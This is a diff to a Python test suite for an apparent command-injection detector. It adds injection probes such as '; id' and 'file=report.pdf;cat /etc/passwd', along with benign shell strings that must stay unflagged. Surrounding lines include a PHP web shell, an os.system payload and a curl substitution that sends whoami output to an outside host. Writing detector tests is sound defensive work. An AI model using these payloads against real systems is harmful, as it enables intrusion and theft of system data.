@@ -312,6 +312,13 @@ def test_connection_string() -> None:
         ("__import__('os').system('id')", "cmd.interpreter_payload"),
         ("<?php system($_GET['c']); ?>", "cmd.interpreter_payload"),
         ("name=$(curl -s http://x.io/$(whoami))", "cmd.substitution_network"),
+        ("; id", "cmd.metachar_probe"),
+        ("a;/usr/bin/id;", "cmd.metachar_probe"),
+        ("'|id|'", "cmd.metachar_probe"),
+        ("%27%0A/usr/bin/id%0A%27", "cmd.metachar_probe"),
+        ("file=report.pdf;cat /etc/passwd", "cmd.metachar_probe"),
+        ("& ping -n 30 127.0.0.1 &", "cmd.metachar_probe"),
+        ("q=1$(whoami)", "cmd.metachar_probe"),
     ],
 )  # fmt: skip
 def test_command_injection(text: str, rule_id: str) -> None:
@@ -421,6 +428,15 @@ def test_tag_hidden_instruction_is_found_after_normalisation() -> None:
         "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519",
         "chmod 755 ./deploy.sh && ./deploy.sh",
         "Version 1.2.3 released on 2024-01-15 (build 20240115).",
+        "| id | name | email |\n|---|---|---|\n| 1 | Ann | a@x |",
+        "| name | id |",
+        "ps aux | grep id",
+        "whoami && uname -a",
+        "Run `whoami` to see which user you are.",
+        "echo $(id -u)",
+        "sudo -u deploy id",
+        "SELECT id; FROM users",
+        "cat /etc/hosts",
     ],
 )
 def test_hard_negatives_stay_quiet(text: str) -> None:
